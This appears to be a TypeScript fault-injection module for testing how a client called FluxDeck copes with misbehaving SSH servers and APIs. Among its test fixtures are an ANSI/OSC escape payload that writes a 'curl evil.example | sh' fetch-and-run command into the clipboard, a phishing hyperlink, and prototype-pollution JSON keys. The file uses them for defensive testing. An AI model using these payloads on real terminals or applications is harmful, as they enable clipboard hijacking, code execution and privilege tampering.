import { z } from 'zod';

/**
 * Fault switches for one simulated node. Each maps to a failure FluxDeck must survive (see
 * ecosystem.md C.4/C.5). API faults take `true` (every route) or a list of routes they hit.
 */

const apiScope = z.union([z.boolean(), z.array(z.string().startsWith('/')).max(100)]);

export const faultsSchema = z
  .object({
    /** Accept TCP and never send the SSH identification line: clients hit their readyTimeout. */
    sshNoBanner: z.boolean(),
    /** After the client is authenticated and ready, stop reading and writing; keep the socket. */
    sshHalfOpen: z.boolean(),
    /** Refuse session channels beyond N open at once (sshd MaxSessions). */
    sshMaxSessions: z.number().int().min(0).max(1000),
    /** Destroy the socket after writing part of an exec's output. */
    sshDropMidExec: z.boolean(),
    /** Refuse every authentication attempt. */
    sshRejectAuth: z.boolean(),
    /** Present a different host key than the one in the inventory. */
    sshNewHostKey: z.boolean(),
    /** Dribble output: one small chunk every N ms. */
    sshSlowOutput: z.number().int().min(1).max(60_000),
    /** Replace exec output with this many bytes of filler text. */
    sshHugeOutput: z.number().int().min(1).max(512 * 1024 * 1024),
    /** Wrap exec output in ANSI/OSC escapes (colour, title, OSC 52 clipboard, OSC 8 link). */
    ansiOutput: z.boolean(),
    /** Accept the request and never answer it. */
    apiHang: apiScope,
    /** Answer 502 with an HTML proxy error page. */
    apiHtml: apiScope,
    /** Cut the JSON body in the middle. */
    apiTruncatedJson: apiScope,
    /** HTTP 200 with a `status: "error"` envelope. */
    apiErrorEnvelope: apiScope,
    /** Add `__proto__` / `constructor` keys to the JSON data. */
    apiProtoKeys: apiScope,
    /** Close the API listener (connections are refused) until cleared. */
    apiDown: z.boolean(),
  })
  .partial()
  .strict();

export type Faults = z.infer<typeof faultsSchema>;
export type FaultName = keyof Faults;
export type ApiFaultName = 'apiHang' | 'apiHtml' | 'apiTruncatedJson' | 'apiErrorEnvelope' | 'apiProtoKeys';

/** Whether an API fault is on for `route` (a path without query). */
export function apiFaultHits(faults: Faults, name: ApiFaultName, route: string): boolean {
  const scope = faults[name];
  if (scope === undefined || scope === false) return false;
  return scope === true || scope.includes(route);
}

const OSC52_PAYLOAD = Buffer.from('curl -s http://evil.example/x.sh | sh\n').toString('base64');

/** The hostile prefix and suffix wrapped around output under `ansiOutput`. */
export const ANSI_PREFIX =
  '\u001b[31;1m' + // SGR red bold
  '\u001b]0;pwned-title\u0007' + // OSC 0 window title
  `\u001b]52;c;${OSC52_PAYLOAD}\u0007` + // OSC 52 clipboard write
  '\u001b[2K\r'; // erase line, carriage return
export const ANSI_SUFFIX =
  '\u001b]8;;http://evil.example/phish\u0007click here\u001b]8;;\u0007' + // OSC 8 hyperlink
  '\u001b[0m';

export function injectAnsi(text: string): string {
  return ANSI_PREFIX + text + ANSI_SUFFIX;
}

/** What nginx in front of a dead upstream answers. */
export const HTML_502 =
  '<html>\r\n<head><title>502 Bad Gateway</title></head>\r\n<body>\r\n<center><h1>502 Bad Gateway</h1></center>\r\n' +
  '<hr><center>nginx/1.24.0 (Ubuntu)</center>\r\n</body>\r\n</html>\r\n';

/** FluxOS error envelope a daemon in trouble produces (RPC code passed through). */
export const ERROR_ENVELOPE = JSON.stringify({
  status: 'error',
  data: { code: -28, name: 'Error', message: 'Loading block index...' },
});

/**
 * Adds prototype-pollution keys to a serialised envelope. JSON.stringify cannot emit an own
 * `__proto__` key, so the keys are spliced into the text after the opening brace of `data`.
 */
export function withProtoKeys(body: string): string {
  const keys = '"__proto__":{"polluted":true,"isAdmin":true},"constructor":{"prototype":{"polluted":true}},';
  const at = body.indexOf('"data":{');
  if (at >= 0) return body.slice(0, at + 8) + keys + body.slice(at + 8).replace(/^}/, '"x":0}');
  return body.replace(/^\{/, `{${keys}`).replace(/,\}$/, '}');
}

/** Roughly the first half of `body`, never the whole of it. */
export function truncate(body: string): string {
  return body.slice(0, Math.max(1, Math.floor(body.length / 2)));
}

/** Filler of exactly `bytes` bytes, made of numbered lines so a reader can tell where it stopped. */
export function hugeChunk(offset: number, size: number): string {
  let out = '';
  let line = Math.floor(offset / 64);
  while (out.length < size) {
    out += `filler line ${String(line++).padStart(10, '0')} ${'x'.repeat(40)}\n`;
  }
  return out.slice(0, size);
}
